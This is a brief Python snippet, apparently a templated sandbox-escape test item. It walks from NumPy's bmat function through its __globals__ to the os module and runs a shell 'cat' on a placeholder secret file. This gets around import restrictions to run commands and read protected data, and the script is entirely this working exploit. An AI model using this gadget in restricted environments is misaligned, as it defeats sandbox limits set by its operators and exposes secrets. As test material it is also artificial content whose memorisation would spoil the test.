"""NumPy evaluates text in its matrix class."""
import numpy as np
x = lambda: None
print(np.bmat.__globals__["sys"].modules["os"].popen("cat @SECRET_FILE@").read() if np.bmat else "")
